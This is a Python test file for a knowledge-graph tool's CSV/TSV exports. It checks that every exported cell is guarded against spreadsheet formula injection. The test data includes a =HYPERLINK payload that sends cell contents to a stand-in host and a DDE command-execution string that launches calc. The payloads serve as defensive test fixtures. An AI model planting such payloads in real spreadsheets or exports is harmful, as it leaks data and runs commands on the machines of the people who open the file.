"""News that a spreadsheet would run in; every table that kg writes for people out, in which nothing is a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from kg.built import Graph
from kg.cells import guard
from kg.cli import main
from kg.model import ActorId, Corpus
from tests.factories import actor, article, corpus, day, event, evidence

Out = pytest.CaptureFixture[str]

EVIL = '=HYPERLINK("https://hurt.invalid/?"&A1,"x")'
STARTS = tuple("=+-@＝＋－＠\t\r\n")


def hostile() -> Corpus:
    """Return a corpus in which every text begins as a formula does."""
    one = actor(f"{EVIL}one", kind="group", id=ActorId("=one"), state="@state", organ="+organ")
    two = actor("@SUM(1+1)*cmd|' /C calc'!A0", kind="group", id=ActorId("-two"))
    three = actor("＝three", kind="group", id=ActorId("＝three"))
    told = evidence(f"{EVIL} met.", article="=a1", attribution="-2+3", rule="=rule")
    return corpus(
        event("met-with", one, two, article="=a1", when=day("2024-05-09", words="=1"), claims=[told], occasion="@x"),
        event("attacked", two, three, article="=a1", when=day("2024-06-09"), claims=[told]),
        event("attacked", one, three, article="=a1", when=day("2024-07-09"), claims=[told]),
        articles=[article("=a1", f"{EVIL} met.", title="=title", source="=source", url="=url")],
    )


@pytest.fixture
def built(tmp_path: Path) -> Path:
    Graph(corpus=hostile()).write(tmp_path / "g")
    Graph(corpus=corpus(event())).write(tmp_path / "old")
    return tmp_path


def cells(text: str, delimiter: str = ",") -> Iterator[str]:
    """Yield the cells below the header as a spreadsheet takes them, without numbers."""
    for row in list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))[1:]:
        yield from (cell for cell in row if not _is_number(cell))


def _is_number(cell: str) -> bool:
    try:
        float(cell.partition("^^")[0])
    except ValueError:
        return False
    return True


COMMANDS = {
    "strength": ["strength", "{}/g", "--format", "csv"],
    "why": ["why", "=one", "＝three", "{}/g", "--format", "csv"],
    "course of two": ["course", "=one", "＝three", "{}/g", "--format", "csv"],
    "course of all": ["course", "--all", "{}/g", "--format", "csv", "--no-intervals"],
    "changes": ["course", "--all", "{}/g", "--changes", "--format", "csv"],
    "analyse": ["analyse", "{}/g", "--format", "csv"],
    "analyse one measure": ["analyse", "{}/g", "--measure", "brokerage", "--format", "csv"],
    "diff": ["diff", "{}/old", "{}/g", "--format", "csv"],
    "query csv": ["query", "SELECT ?o WHERE {{ ?s ?p ?o FILTER(ISLITERAL(?o)) }}", "--graph", "{}/g", "--format", "csv", "--for-spreadsheet"],
    "query tsv": ["query", "SELECT ?o WHERE {{ ?s ?p ?o FILTER(ISLITERAL(?o)) }}", "--graph", "{}/g", "--format", "tsv", "--for-spreadsheet"],
}  # fmt: skip


@pytest.mark.parametrize("name", COMMANDS)
def test_no_cell_that_a_command_prints_is_a_formula(name: str, built: Path, capsys: Out) -> None:
    arguments = [each.format(built) for each in COMMANDS[name]]
    main(arguments)

    text = capsys.readouterr().out
    found = [cell for cell in cells(text, "\t" if "tsv" in arguments else ",") if cell.startswith(STARTS)]
    assert found == []
    assert name == "changes" or any(cell.startswith("'") for cell in cells(text)), "there was something to guard"


FILES: dict[str, Callable[[str], list[str]]] = {
    "export": lambda folder: ["export", f"{folder}/g", "--to", "csv", "-o", f"{folder}/out.csv"],
    "audit": lambda folder: ["audit", f"{folder}/g", "--sheet", f"{folder}/out.csv"],
    "review": lambda folder: ["review", f"{folder}/g", "--sheet", f"{folder}/out.csv"],
}


@pytest.mark.parametrize("name", FILES)
def test_no_cell_of_a_file_is_a_formula(name: str, built: Path) -> None:
    main(FILES[name](str(built)))

    text = (built / "out.csv").read_text(encoding="utf-8")
    assert [cell for cell in cells(text) if cell.startswith(STARTS)] == []
    assert any(cell.startswith("'") for cell in cells(text))


@pytest.mark.parametrize("start", STARTS)
def test_every_beginning_of_a_formula_is_guarded(start: str) -> None:
    assert guard(f"{start}1+1") == f"'{start}1+1"


def test_the_files_for_neo4j_are_exact_and_say_that_they_are_for_no_spreadsheet(built: Path) -> None:
    from kg.exporters import neo4j

    main(["export", str(built / "g"), "--to", "neo4j", "-o", str(built / "neo")])

    assert '"=HYPERLINK' in (built / "neo" / neo4j.NODES_FILE).read_text(encoding="utf-8")
    assert "not for spreadsheets" in (neo4j.write_neo4j.__doc__ or "")
